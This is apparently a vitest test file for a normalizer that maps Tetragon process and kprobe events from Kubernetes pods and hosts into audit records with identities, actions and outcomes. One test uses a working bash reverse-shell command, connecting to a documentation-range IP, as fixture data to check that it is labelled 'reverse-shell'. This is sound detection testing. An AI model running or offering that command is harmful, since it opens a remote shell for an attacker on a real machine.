import type { JsonObject } from "@rolecall/core";
import { expect, test } from "vitest";
import { eventByIntake, readAlone } from "../test/event-by-intake.ts";

const TIME = "2026-11-24T10:00:00.000000001Z";
const IMAGE = { id: "sha256:aa", name: "registry.acme.com:5000/acme/shop:1.2" };
const POD = { namespace: "shop", name: "shop-57c5-vd668", container: { id: "containerd://aa", image: IMAGE } };
const PROCESS = {
  exec_id: "a",
  pid: 7,
  uid: 33,
  auid: 4294967295,
  binary: "/usr/bin/curl",
  arguments: "-s http://x/a",
};
const PARENT = { binary: "/usr/sbin/nginx" };

function seen(kind: string, process: JsonObject, more: JsonObject = {}): JsonObject {
  return { [kind]: { process: { ...PROCESS, ...process }, parent: PARENT, ...more }, node_name: "node-1", time: TIME };
}

test("a program that starts in a pod is of what runs there, by its image", () => {
  expect(eventByIntake(seen("process_exec", { pod: POD }))).toMatchObject({
    ...{ source: "linux-host", action: "execve curl", action_class: "execute", resource: "curl", service: "tetragon" },
    ...{ identity_uid: "linux::workload:shop/registry.acme.com%3A5000/acme/shop", account_uid: "node-1" },
    ...{ outcome: "success", time: "2026-11-24T10:00:00.000Z" },
    labels: { parent: "nginx", pod: "shop-57c5-vd668", namespace: "shop" },
  });
});

test("what a command is seen to do stays, the command does not", () => {
  const process = { binary: "/bin/bash", arguments: "-c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' hunter2" };
  expect(eventByIntake(seen("process_exec", { ...process, pod: POD })).labels).toMatchObject({ does: "reverse-shell" });
});

test.each([
  ["a user of the machine", { uid: 1000 }, "linux:node-1:unknown:1000"],
  ["by name, where it is said", { uid: 1000, user: { name: "deploy" } }, "linux::service-account:deploy"],
  ["who signed in, whatever they became", { uid: 0, auid: 1001 }, "linux:node-1:unknown:1001"],
  ["root", { uid: 0 }, "linux::root:root"],
])("outside of pods it is the machine's user: %s", (_, process, uid) => {
  expect(eventByIntake(seen("process_exec", process)).identity_uid).toBe(uid);
});

test.each([
  ["KPROBE_ACTION_POST", "success"],
  ["KPROBE_ACTION_SIGKILL", "denied"],
])("what a policy looks for is its name: %s", (action, outcome) => {
  const more = { function_name: "security_file_permission", policy_name: "file-monitoring", action };
  expect(eventByIntake(seen("process_kprobe", { pod: POD }, more))).toMatchObject({
    ...{ action: "file-monitoring", outcome, labels: { call: "security_file_permission" } },
  });
});

test("the end of a program is no act", () => {
  expect(readAlone(seen("process_exit", {}))).toMatchObject({ kind: "drop", reason: "no-act" });
});

test("a record that names a node and has no process is none", () => {
  expect(readAlone({ node_name: "node-1", time: TIME, process_exec: { pid: 7 } }).kind).toBe("dead-letter");
});
